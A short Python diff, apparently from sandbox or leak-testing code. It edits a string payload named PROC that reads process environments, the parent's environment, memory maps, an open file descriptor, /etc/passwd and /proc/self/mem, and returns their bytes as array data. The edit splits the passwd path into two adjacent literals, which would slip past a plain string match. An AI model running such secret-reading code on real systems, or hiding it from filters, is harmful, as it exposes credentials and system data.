@@ -48,7 +48,7 @@ for text in (*sys.argv, *sys.orig_argv, *os.environ.values()):
 PROC = """
 import os
 for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/proc/%d/environ" % os.getppid(),
-             "/proc/self/maps", "/proc/self/fd/3", "/proc/self/root/etc/passwd", "/proc/self/mem"):
+             "/proc/self/maps", "/proc/self/fd/3", "/proc/self/root" "/etc/passwd", "/proc/self/mem"):
     try: data = open(path, "rb").read(1000)
     except OSError: continue
     return np.frombuffer(data[: x.size * 8]).reshape(x.shape)
